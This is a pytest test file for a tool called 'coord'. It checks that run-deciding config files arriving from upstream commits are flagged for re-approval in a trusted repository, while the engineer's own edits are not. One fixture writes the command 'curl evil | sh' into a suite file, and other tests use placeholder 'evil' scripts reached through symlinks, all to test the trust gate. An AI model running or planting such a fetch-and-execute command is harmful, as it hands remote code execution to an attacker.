"""What arrives with a commit in a project that is trusted is asked about; the engineer's own edits are not."""

import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from support.command import coord
from support.project import NOTHING, prompt_text
from support.trusting import SUITE, asked, clone, commit, git, interject, pull, trust

pytestmark = pytest.mark.usefixtures("state")


def test_the_engineers_own_edits_stay_trusted(upstream: Path) -> None:
    there = clone(upstream)
    trust(there)
    suite = there / ".coord" / "suites" / "fast.md"
    suite.write_text(SUITE.format(command="make fast"))
    assert asked(there) == []
    git(there, "stash", "-q")
    assert asked(there) == []
    git(there, "stash", "pop", "-q")
    git(there, "add", "-A", ".coord")
    assert asked(there) == [], "staged only"
    commit(there, "mine")
    assert asked(there) == [], "committed here, though coord saw none of it"
    (there / ".coord" / "scripts").mkdir()
    (there / ".coord" / "scripts" / "01.sh").write_text(NOTHING)
    assert interject(there).code == 0
    commit(there, "with a script")
    git(there, "rebase", "-q", "--root", "--force-rebase")
    assert asked(there) == []
    git(there, "checkout", "-q", "HEAD~2", "--", ".coord/suites/fast.md")
    assert asked(there) == []
    git(there, "switch", "-q", "--detach", "origin/main", "--discard-changes")
    assert asked(there) == []


def pull_rebase(there: Path) -> None:
    git(there, "pull", "-q", "--rebase")


def switch(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "switch", "-q", "--detach", "origin/main")


def rebase(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "rebase", "-q", "origin/main")


def cherry_pick(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "cherry-pick", "origin/main")


def squash(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "merge", "-q", "--squash", "origin/main")
    git(there, "commit", "-qm", "squashed")


def checkout_file(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "checkout", "-q", "origin/main", "--", ".coord")


def reset(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "reset", "-q", "--hard", "origin/main")


def patch(there: Path) -> None:
    git(there, "fetch", "-q")
    mail = subprocess.run(["git", "format-patch", "-1", "--stdout", "origin/main"], cwd=there, capture_output=True)
    subprocess.run(["git", "am", "-q"], cwd=there, input=mail.stdout, check=True)


@pytest.mark.parametrize(
    "arrive", [pull, pull_rebase, rebase, switch, cherry_pick, squash, checkout_file, reset, patch]
)
@pytest.mark.parametrize("diverged", [False, True])
def test_what_arrives_with_a_commit_is_asked_about_as_a_diff(
    upstream: Path, arrive: Callable[[Path], None], diverged: bool
) -> None:
    there = clone(upstream)
    trust(there)
    if diverged:
        (there / "mine").write_text("x")
        git(there, "add", "mine")
        git(there, "commit", "-qm", "mine")
    (upstream / ".coord" / "suites" / "fast.md").write_text(SUITE.format(command="curl evil | sh"))
    commit(upstream, "theirs")
    arrive(there)
    assert asked(there) == [".coord/suites/fast.md"]
    done = interject(there)
    assert (done.code, "fast.md" in done.err) == (3, True)
    (shown,) = coord("trust", "--dry-run", "--json", at=there).json["asks"]
    assert shown["change"] == "changed"
    assert {"-command: true", "+command: curl evil | sh"} < set(shown["diff"].splitlines())
    trust(there)
    assert interject(there).code == 0


@pytest.mark.parametrize(
    "name", ["coord.yaml", "setup.sh", "teardown.sh", "scripts/01.sh", "flows/EXECUTION.md", "flows/pipelines/p.md"]
)
def test_every_kind_of_file_that_decides_what_runs_is_asked_about(upstream: Path, name: str) -> None:
    there = clone(upstream)
    trust(there)
    path = upstream / ".coord" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("gate: auto\n")
    commit(upstream)
    pull(there)
    assert asked(there) == [f".coord/{name}"]


@pytest.mark.parametrize("arrive", [pull, pull_rebase, rebase])
def test_ones_own_commits_stay_trusted_when_code_of_others_arrives(
    upstream: Path, arrive: Callable[[Path], None]
) -> None:
    there = clone(upstream)
    trust(there)
    (there / ".coord" / "coord.yaml").write_text("runtime: scripted\ngate: auto\n")
    commit(there, "mine, and no command of coord since")
    (upstream / "code").write_text("theirs\n")
    git(upstream, "add", "code")
    git(upstream, "commit", "-qm", "theirs")
    arrive(there)
    assert asked(there) == []
    git(there, "switch", "-qc", "feature")
    (there / ".coord" / "suites" / "mine.md").write_text(SUITE.format(command="true"))
    commit(there, "mine too")
    git(there, "switch", "-q", "main")
    git(there, "merge", "-q", "--no-ff", "--no-edit", "feature")
    assert asked(there) == []


def test_prompts_and_documents_arrive_unasked(upstream: Path) -> None:
    there = clone(upstream)
    trust(there)
    (upstream / ".coord" / "prompts" / "02-planned-b.prompt.md").write_text(prompt_text(2))
    (upstream / ".coord" / "alignment.md").write_text("# Alignment\n")
    commit(upstream)
    pull(there)
    assert asked(there) == []


def test_a_checkout_that_writes_other_bytes_than_it_holds_passes_for_no_edit(upstream: Path) -> None:
    there = clone(upstream)
    trust(there)
    (upstream / ".gitattributes").write_text("*.md text eol=crlf\n")
    (upstream / ".coord" / "suites" / "fast.md").write_text(SUITE.format(command="evil"))
    git(upstream, "add", ".gitattributes")
    commit(upstream)
    pull(there)
    assert b"\r\n" in (there / ".coord" / "suites" / "fast.md").read_bytes()
    assert asked(there) == [".coord/suites/fast.md"]
    (there / ".coord" / "suites" / "fast.md").touch()
    assert asked(there) == [".coord/suites/fast.md"]


@pytest.mark.parametrize("folder", [True, False])
def test_what_is_linked_to_is_asked_about(upstream: Path, folder: bool) -> None:
    there = clone(upstream)
    trust(there)
    (upstream / "tools").mkdir()
    (upstream / "tools" / "01.sh").write_text("evil\n")
    if folder:
        (upstream / ".coord" / "scripts").symlink_to("../tools")
    else:
        (upstream / ".coord" / "scripts").mkdir()
        (upstream / ".coord" / "scripts" / "01.sh").symlink_to("../../tools/01.sh")
    git(upstream, "add", "tools")
    commit(upstream)
    pull(there)
    assert asked(there) == [".coord/scripts/01.sh"]
